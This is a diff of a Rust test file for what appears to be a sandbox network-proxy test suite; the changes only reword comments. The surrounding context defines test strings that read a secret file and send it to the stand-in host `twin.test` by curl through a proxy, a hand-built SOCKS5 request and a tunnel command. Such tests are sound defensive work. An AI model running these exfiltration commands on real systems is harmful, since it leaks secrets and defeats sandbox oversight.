@@ -1,6 +1,6 @@
 //! Internet names and addresses with a proxy that permits some of them: every spelling of those it does not permit.
 //!
-//! - Servers outside record who connects. Only `twin.test`, which is permitted, may be used to reach them.
+//! - Servers outside record connections. The attacks may use only `twin.test`, which is permitted.
 
 use crate::row::{Bare::Untried, Group, Row, Sign::Said};
 
@@ -15,7 +15,7 @@ const WILD: &str = "$P hello a.wild.test $(cat $R/secret) | $P tunnel a.wild.tes
 const SOCKS: &str = r#"printf "\5\1\0\5\1\0\3\011twin.test\0\120%s" $(cat $R/secret) | $P proxy"#;
 const CURL: &str = "curl -s --max-time 5 -x http://127.0.0.1:3128 http://twin.test/$(cat $R/secret)";
 
-/// Returns a row that is not tried without a sandbox, which has no such proxy.
+/// Returns a row that is not tried without a sandbox, because there is no such proxy.
 const fn way(name: &'static str, attack: &'static str, twin: &'static str) -> Row {
     Row::new(name, attack, twin, Said).bare(Untried)
 }
